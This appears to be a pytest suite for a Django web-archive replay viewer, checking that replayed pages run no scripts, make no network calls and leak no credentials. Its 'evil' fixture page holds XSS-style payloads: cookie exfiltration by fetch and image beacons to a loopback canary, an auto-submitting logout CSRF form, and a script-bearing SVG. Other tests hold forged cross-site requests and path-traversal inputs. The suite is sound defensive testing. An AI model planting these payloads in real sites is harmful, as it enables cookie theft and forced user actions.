"""隔离回放: archived pages are shown and do nothing (scenario 22, warcgames, evidence.md D1)."""

import gzip
import http.client
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.test import override_settings

from desk.web.replay.tickets import Ticket
from desk.web.roles import Role
from leads.captures import folder_of
from tests.desk.web.captures_made import png
from tests.desk.web.conftest import sign_in

pytestmark = pytest.mark.heavy

SHOP = "https://shop.test"


class Canary:
    """A server on loopback that counts whoever asks it anything."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *words: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def canary() -> Iterator[Canary]:
    one = Canary()
    yield one
    one.server.shutdown()
    one.server.server_close()


def evil(canary: str, desk: str) -> str:
    """A page that tries what pages try."""
    ws = canary.replace("http", "ws")
    return f"""<!doctype html><html><head><title>恶意页</title>
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{canary}/base/">
<link rel="stylesheet" href="{canary}/sheet.css"><link rel="preconnect" href="{canary}">
<link rel="dns-prefetch" href="{canary}"><link rel="prefetch" href="{canary}/prefetch">
<link rel="icon" href="{canary}/icon"><link rel="manifest" href="{canary}/manifest">
<style>@import "{canary}/import.css"; body {{ background: url({canary}/bg.png) }}
h1 {{ color: rgb(1, 2, 3) }}</style>
<script src="{canary}/s.js"></script>
<script>document.title='pwned';document.cookie='tossed=1';
fetch('{canary}/fetch?'+document.cookie);new Image().src='{canary}/img?'+document.cookie;
new WebSocket('{ws}/ws');navigator.sendBeacon('{canary}/beacon');
top.location='{canary}/top';localStorage.x=1;</script></head>
<body onload="document.title='pwned'" background="{canary}/body.png">
<h1 style="background-image:url({canary}/inline.png);letter-spacing:3px">采集当时的标题</h1>
<img src="{canary}/pic.png" srcset="{canary}/pic2.png 2x" onerror="document.title='pwned'">
<img id="kept" src="{SHOP}/kept.png" loading="lazy">
<iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>top.x=1</script>"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<video src="{canary}/video" poster="{canary}/poster" autoplay></video>
<svg><image href="{canary}/svg.png"/><use href="{canary}/use.svg#a"/>
<script>document.title='pwned'</script><a xlink:href="javascript:1"><text>x</text></a></svg>
<form id="f" action="{desk}/logout/" method="post" target="_top"><input name="a" value="1">
<button id="send" formaction="{canary}/post">提交</button></form>
<a id="go" href="{canary}/link" target="_top" ping="{canary}/ping">去</a>
<a id="js" href="javascript:document.title='pwned'">脚本</a>
<script>document.getElementById('f').submit()</script></body></html>"""


def test_22_当回放恶意网页时_应无脚本_不联网_无凭据(
    home, desk, person, captures, canary, browser_page
):
    row = captures.row(
        evil(canary.url, desk.url), resources={f"{SHOP}/kept.png": ("text/html", png(30, 20))}
    )
    sign_in(browser_page, desk, person())
    left: list[str] = []
    own = (desk.url, desk.url.replace("127.0.0.1", "localhost"))
    browser_page.on(
        "request",
        lambda one: None if one.url.startswith((*own, "data:")) else left.append(one.url),
    )
    sockets: list[str] = []
    browser_page.on("websocket", lambda one: sockets.append(one.url))
    for view in ("page", "dom"):
        address = f"{desk.url}/captures/{row.pk}/replay/?view={view}"
        browser_page.goto(address)
        frame = browser_page.frame_locator("iframe.viewer")
        frame.locator("h1").wait_for()
        time.sleep(1.5)  # so long a refresh, a script or a beacon would have had
        inner = next(one for one in browser_page.frames if "/.replay/" in one.url)
        assert urlsplit(inner.url).hostname == "localhost"
        assert frame.locator("h1").inner_text() == "采集当时的标题"
        assert inner.title() == "恶意页"
        # Styles of the page hold, pictures that were archived show, others are seen missing.
        style = "one => getComputedStyle(one).color + getComputedStyle(one).letterSpacing"
        assert frame.locator("h1").evaluate(style) == "rgb(1, 2, 3)3px"
        kept = frame.locator("#kept")
        kept.scroll_into_view_if_needed()
        browser_page.wait_for_timeout(300)
        assert kept.evaluate("one => one.naturalWidth") == 30
        assert "未存档" in frame.locator("img").first.get_attribute("alt")
        # Nobody's cookies, no storage: the frame has an origin of its own.
        assert frame.locator("h1").evaluate("() => self.origin") == "null"
        for name in ("go", "js", "send"):
            frame.locator(f"#{name}").click(force=True)
        browser_page.wait_for_timeout(500)
        assert browser_page.url == address
        assert frame.locator("h1").inner_text() == "采集当时的标题"
    assert left == [] and sockets == []
    assert canary.asked == []
    names = {one["name"] for one in browser_page.context.cookies()}
    assert names <= {"__Host-wangjian", "__Host-wangjian-csrf"}
    browser_page.goto(f"{desk.url}/")
    assert "今日" in browser_page.title()  # nobody was signed out


def viewer_of(desk, client, row, view="page") -> tuple[str, str]:
    """The path of the framed viewer, and the host it is asked for."""
    host = urlsplit(desk).netloc
    page = client.get(f"/captures/{row.pk}/replay/?view={view}", headers={"host": host})
    found = re.search(r'<iframe[^>]* src="([^"]+)"', page.content.decode())
    assert found, page.content.decode()
    place = urlsplit(found[1])
    return place.path, place.netloc


DESK = "http://localhost:8443"


def framed(client, path, host, **headers):
    client.cookies.clear()
    return client.get(path, headers={"host": host, "Sec-Fetch-Dest": "iframe", **headers})


def test_the_frame_is_another_name_and_its_answers_carry_the_policy(person, client_of, captures):
    row = captures.row("<p>正文</p>", headers="Set-Cookie: __Host-wangjian=x\r\n")
    client = client_of(person())
    page = client.get(f"/captures/{row.pk}/replay/", headers={"host": "localhost:8443"})
    html = page.content.decode()
    assert 'sandbox=""' in html and "allow-scripts" not in html
    assert "frame-src http://127.0.0.1:8443;" in page["Content-Security-Policy"]
    path, host = viewer_of(DESK, client, row)
    assert host == "127.0.0.1:8443"
    answer = framed(client, path, host)
    assert answer.status_code == 200 and "正文" in answer.content.decode()
    policy = answer["Content-Security-Policy"]
    assert policy == (
        "sandbox; default-src 'none'; img-src 'self' data:; style-src 'self' data:; "
        "font-src 'self' data:; form-action 'none'; base-uri 'none'; "
        "frame-ancestors http://localhost:8443"
    )
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Referrer-Policy"] == "no-referrer" and answer["Cache-Control"] == "no-store"
    assert "Cross-Origin-Resource-Policy" in answer
    assert not answer.cookies and "Set-Cookie" not in answer


def test_the_default_view_is_no_replay(person, client_of, captures):
    row = captures.row()
    page = client_of(person()).get(f"/captures/{row.pk}/").content.decode()
    assert "<iframe" not in page and "/.replay/" not in page


def test_warcgames_content_switch(person, client_of, captures, desk, browser_page):
    """A page that shows other words in an archive: it has no script to find out."""
    html = (
        "<p id=x>2+2=4</p><noscript>无脚本</noscript><script>if (top !== self || "
        "location.host !== 'shop.test') document.getElementById('x').textContent='2+2=5'</script>"
    )
    row = captures.row(html)
    sign_in(browser_page, desk, person())
    browser_page.goto(f"{desk.url}/captures/{row.pk}/replay/")
    shown = browser_page.frame_locator("iframe.viewer").locator("#x")
    shown.wait_for()
    browser_page.wait_for_timeout(300)
    assert shown.inner_text() == "2+2=4"


def test_warcgames_csrf(desk, person, home):
    """An archived page posts to the desk: refused, whatever it carries."""
    place = urlsplit(desk.url)
    link = http.client.HTTPConnection(place.hostname, place.port, timeout=20)
    for origin in ("null", desk.url.replace("127.0.0.1", "localhost"), "https://shop.test"):
        headers = {
            "Host": place.netloc,
            "Origin": origin,
            "Sec-Fetch-Site": "cross-site",
            "Sec-Fetch-Mode": "navigate",
            "Sec-Fetch-Dest": "iframe",
            "Cookie": "__Host-wangjian=stolen",
        }
        link.request("POST", "/logout/", body="", headers=headers)
        answer = link.getresponse()
        answer.read()
        assert answer.status == 403
        # Without the newer headers the form's token holds.
        old = {k: v for k, v in headers.items() if not k.startswith("Sec-")}
        link.request("POST", "/login/", body="", headers=old)
        answer = link.getresponse()
        answer.read()
        assert answer.status == 403


def test_warcgames_port_scan(person, client_of, captures, canary):
    """The viewer fetches nothing: an address it did not archive is missing, not looked up."""
    row = captures.row(f'<img src="{canary.url}/8001"><link rel=stylesheet href="{canary.url}/c">')
    client = client_of(person())
    path, host = viewer_of(DESK, client, row)
    assert canary.url not in framed(client, path, host).content.decode()
    root = path.removesuffix("page")
    for what in (f"r/{canary.url}/8001", "r/99", "r/-1", "r/0/../../x", "other", "page/7", ""):
        assert framed(client, root + what, host).status_code == 404
    assert canary.asked == []


def test_warcgames_same_domain(person, client_of, captures):
    """The desk's own name never serves archived bytes, and a ticket for one name is for it."""
    row = captures.row("<p>正文</p>")
    client = client_of(person())
    path, host = viewer_of(DESK, client, row)
    assert framed(client, path, "localhost:8443").status_code == 404
    assert framed(client, path, host).status_code == 200
    # Not as a page of its own, not by a script, not by another method.
    for dest in ("document", "script", "empty", "object", "embed", "worker"):
        assert framed(client, path, host, **{"Sec-Fetch-Dest": dest}).status_code == 403
    assert client.post(path, headers={"host": host}).status_code == 405


def test_warcgames_same_subdomain(person, client_of, captures):
    """The viewer sets no cookie, and the desk's bear a prefix that no neighbour can set."""
    row = captures.row("<p>正文</p>", headers="Set-Cookie: __Host-wangjian=evil; Domain=test\r\n")
    client = client_of(person())
    path, host = viewer_of(DESK, client, row)
    answer = framed(client, path, host)
    assert "Set-Cookie" not in answer and not answer.cookies
    assert settings.SESSION_COOKIE_NAME.startswith("__Host-")
    assert settings.CSRF_COOKIE_NAME.startswith("__Host-")


def test_a_ticket_is_for_one_capture_one_account_and_minutes(person, client_of, captures, made):
    row = captures.row("<p>甲</p>", leads=[made.lead()])
    account = person()
    client = client_of(account)
    path, host = viewer_of(DESK, client, row)
    assert framed(client, path.replace("/page", "x/page"), host).status_code == 403
    assert framed(client, "/.replay/made-up/page", host).status_code == 403
    elsewhere = person(Role.OFFICER, office="530102")
    theirs = Ticket(row.pk, elsewhere.pk, host, DESK).signed()
    assert framed(client, f"/.replay/{theirs}/page", host).status_code == 409
    account.is_active = False
    account.save()
    assert framed(client, path, host).status_code == 409


def test_an_old_ticket_is_refused(person, client_of, captures, monkeypatch):
    row = captures.row()
    client = client_of(person())
    path, host = viewer_of(DESK, client, row)
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 16 * 60)
    assert framed(client, path, host).status_code == 403


def test_a_capture_that_was_altered_is_not_replayed(home, person, client_of, captures):
    row = captures.row()
    (warc,) = folder_of(home, row).glob("*.warc.gz")
    warc.chmod(0o640)
    data = bytearray(warc.read_bytes())
    data[len(data) // 2] ^= 1
    warc.write_bytes(bytes(data))
    page = client_of(person()).get(f"/captures/{row.pk}/replay/", headers={"host": "localhost"})
    assert "不能回放" in page.content.decode() and "<iframe" not in page.content.decode()


def test_pictures_styles_and_fonts_are_told_by_their_bytes(person, client_of, captures):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    row = captures.row(
        "<p>x</p>",
        resources={
            f"{SHOP}/a": ("text/html", png()),
            f"{SHOP}/b": ("image/png", b"<script>alert(1)</script>"),
            f"{SHOP}/c": ("image/svg+xml", svg),
            f"{SHOP}/d": ("application/pdf", b"%PDF-1.7 x"),
            f"{SHOP}/e.css": ("text/css", b'b{background:url("a")} i{background:url(/zz)}'),
            f"{SHOP}/f": ("text/html", b"wOF2xxxx"),
        },
    )
    client = client_of(person())
    path, host = viewer_of(DESK, client, row)
    root = path.removesuffix("page")
    answers = [framed(client, f"{root}r/{n}", host) for n in range(7)]
    kinds = [one["Content-Type"] for one in answers]
    assert kinds == [
        "application/octet-stream",  # the document itself is shown as "page" alone
        "image/png",
        "application/octet-stream",
        "image/svg+xml",
        "application/octet-stream",
        "text/css; charset=utf-8",
        "font/woff2",
    ]
    for n in (0, 2, 3, 4):
        assert answers[n]["Content-Disposition"].startswith("attachment")
    css = answers[5].content.decode()
    assert f'url("{root}r/1")' in css and "i{background:none}" in css


def test_what_a_sheet_names_is_found_from_where_it_was_moved_to(person, client_of, captures):
    row = captures.row(
        '<link rel=stylesheet href="/old.css">',
        resources={
            f"{SHOP}/old.css": ("text/css", b""),
            f"{SHOP}/theme/new.css": ("text/css", b'b{background:url("bg.png")}'),
            f"{SHOP}/theme/bg.png": ("image/png", png()),
        },
        moved={f"{SHOP}/old.css": "/theme/new.css"},
    )
    path, host = viewer_of(DESK, client := client_of(person()), row)
    root = path.removesuffix("page")
    css = framed(client, f"{root}r/1", host).content.decode()
    assert f'url("{root}r/3")' in css, css


@override_settings(ALLOWED_HOSTS=["desk.test"])
def test_without_another_name_there_is_no_replay(person, client_of, captures):
    row = captures.row()
    page = client_of(person()).get(f"/captures/{row.pk}/replay/", headers={"host": "desk.test"})
    assert "replay_host" in page.content.decode() and "<iframe" not in page.content.decode()


@override_settings(ALLOWED_HOSTS=["desk.test", "replay.test"])
def test_the_viewers_own_name_serves_nothing_of_the_desk(
    home, person, client_of, captures, monkeypatch
):
    monkeypatch.setattr("desk.settings.REPLAY_HOST", "replay.test")
    home.office_file.write_text(
        home.office_file.read_text() + '[desk]\nreplay_host = "replay.test"\n', encoding="utf-8"
    )
    row = captures.row("<p>正文</p>")
    client = client_of(person())
    path, host = viewer_of("http://desk.test", client, row)
    assert host == "replay.test"
    cookies = client.cookies.copy()
    for desk_page in ("/", "/login/", f"/captures/{row.pk}/", "/static/desk/desk.css"):
        client.cookies = cookies
        assert client.get(desk_page, headers={"host": "replay.test"}).status_code == 404
    assert framed(client, path, host).status_code == 200


def test_gbk_pages_keep_their_words(home, person, client_of, captures):
    row = captures.row('<meta charset="gbk"><p id=a>国家级</p>', charset="gbk")
    (warc,) = folder_of(home, row).glob("*.warc.gz")
    assert "国家级".encode("gbk") in gzip.decompress(warc.read_bytes()), "so it was sent"
    path, host = viewer_of(DESK, client := client_of(person()), row)
    html = framed(client, path, host).content.decode()
    assert "国家级" in html and "\ufffd" not in html


def test_the_styles_of_elements_become_a_sheet_that_they_cannot_leave(person, client_of, captures):
    row = captures.row('<p style="color:red}p{display:none">乙</p>')
    path, host = viewer_of(DESK, client := client_of(person()), row)
    assert "style=" not in framed(client, path, host).content.decode()
    client = client_of(person())
    sheet = framed(client, f"{path}/0", host).content.decode()
    assert "color" in sheet and sheet.count("{") == 1 and sheet.count("}") == 1


def test_a_body_too_large_is_refused_before_it_is_read(desk):
    place = urlsplit(desk.url)
    for path in ("/login/", "/attended/import/", "/"):
        link = http.client.HTTPConnection(place.hostname, place.port, timeout=20)
        link.putrequest("POST", path)
        link.putheader("Content-Type", "multipart/form-data; boundary=x")
        link.putheader("Content-Length", str(300 << 20))
        link.endheaders()
        assert link.getresponse().status == 413
        link.close()
